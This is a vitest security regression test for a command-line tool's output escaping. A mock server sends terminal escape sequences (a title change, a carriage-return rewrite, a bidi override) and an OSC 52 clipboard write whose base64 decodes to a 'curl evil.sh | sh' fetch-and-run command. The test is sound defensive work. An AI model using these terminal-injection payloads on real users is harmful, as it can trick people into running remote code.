import fs from 'node:fs/promises';
import http from 'node:http';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { escapeForTerminal, escapeStreamForTerminal } from '../../src/ui/ui.js';
import { runMain, tempDir } from '../helpers/context.js';
import { listenLocal } from '../helpers/local-http.js';

// Issue 18, Low: control characters and OSC sequences from a server were printed raw on the
// user's terminal (job get/list, artifacts list, logs, errors): a title, a clipboard write
// (OSC 52), a line rewritten with \r.
const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07';
const TITLE = '\x1b]0;pwned\x07';
const EVIL = `running${OSC52}\rcompleted${TITLE}\u202e`;

let root: string;
let hostile: http.Server | undefined;
let url: string;
beforeEach(async () => {
  root = await tempDir('cycle-sec-escape-');
  hostile = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    const json = (status: number, body: unknown): void => void res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    if (url.pathname === '/api/v1/jobs/job_1') return json(200, { id: 'job_1', status: EVIL, project: `demo${TITLE}`, tags: [EVIL] });
    if (url.pathname === '/api/v1/jobs') return json(200, { jobs: [{ id: 'job_1', status: EVIL, project: `demo${TITLE}`, tags: [EVIL] }] });
    if (url.pathname === '/api/v1/jobs/job_1/output')
      return json(200, { job_id: 'job_1', tasks: [{ index: 0, status: 'completed', output: `step 1\n\x1b[32mok\x1b[39m${OSC52}\n` }], next_cursor: null });
    if (url.pathname === '/api/v1/artifacts') return json(200, { artifacts: [{ id: 'art_1', job_id: 'job_1', name: `model${OSC52}.bin`, size: 3 }] });
    return json(404, { error: { code: 'not_found', message: `no job ${TITLE}here` } });
  });
  url = await listenLocal(hostile);
});
afterEach(async () => {
  await new Promise((resolve) => hostile!.close(resolve));
  await fs.rm(root, { recursive: true, force: true });
});

async function cycle(args: string[], tty: boolean): Promise<{ code: number; stdout: string; stderr: string }> {
  return runMain(args, {
    env: { HOME: root, XDG_CONFIG_HOME: path.join(root, '.cfg'), CYCLE_API_URL: url, CYCLE_TOKEN: 't', CYCLE_HTTP_RETRIES: '1', NO_COLOR: '1' },
    cwd: root,
    tty,
  });
}

/** Nothing that makes a terminal act: no ESC but colours, no BEL, no CR, no bidi override. */
function harmless(text: string): boolean {
  // eslint-disable-next-line no-control-regex
  const withoutColours = text.replace(/\x1b\[[0-9;]*m/g, '');
  // eslint-disable-next-line no-control-regex
  return !/[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]/.test(withoutColours);
}

describe('what a server sends is escaped on a terminal', () => {
  it.each([[['job', 'get', 'job_1']], [['job', 'list']], [['artifacts', 'list']], [['job', 'logs', 'job_1']]])('%j', async (args) => {
    const result = await cycle(args, true);
    expect(result.code, result.stderr).toBe(0);
    expect(harmless(result.stdout), JSON.stringify(result.stdout)).toBe(true);
    expect(harmless(result.stderr), JSON.stringify(result.stderr)).toBe(true);
    expect(result.stdout).toContain('\\x1b]');
  });

  it('a job log keeps its colours on a terminal', async () => {
    const result = await cycle(['job', 'logs', 'job_1'], true);
    expect(result.stdout).toContain('\x1b[32mok\x1b[39m');
  });

  it("a server's error message", async () => {
    const result = await cycle(['job', 'get', 'job_2'], true);
    expect(result.code).toBe(1);
    expect(harmless(result.stderr), JSON.stringify(result.stderr)).toBe(true);
    expect(result.stderr).toContain('no job \\x1b]0;pwned\\x07here');
  });

  it('--json stays data (JSON-escaped), and output to a pipe stays as the server sent it', async () => {
    const json = await cycle(['job', 'get', 'job_1', '--json'], true);
    expect(JSON.parse(json.stdout).status).toBe(EVIL);
    // eslint-disable-next-line no-control-regex
    expect(json.stdout.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f]/);
    const piped = await cycle(['job', 'get', 'job_1'], false);
    expect(piped.stdout).toContain(OSC52);
  });

  it('the escaping functions: text keeps only colours, tabs and newlines; a stream keeps cursor moves too', () => {
    expect(escapeForTerminal(`a\tb\n\x1b[1mbold\x1b[22m${TITLE}\r\x9b`)).toBe('a\tb\n\x1b[1mbold\x1b[22m\\x1b]0;pwned\\x07\\x0d\\x9b');
    expect(escapeStreamForTerminal('50%\r\x1b[2K\x1b[1A\x1b[6n\x1bP1$r\x1b\\')).toBe('50%\r\x1b[2K\x1b[1A\\x1b[6n\\x1bP1$r\\x1b\\');
    const bytes = escapeStreamForTerminal(Buffer.from(`é${OSC52}\u202e`));
    expect(Buffer.from(bytes).toString('utf8')).toBe('é\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\u202e');
    const plain = Buffer.from('plain é text\n');
    expect(escapeStreamForTerminal(plain)).toBe(plain);
  });
});
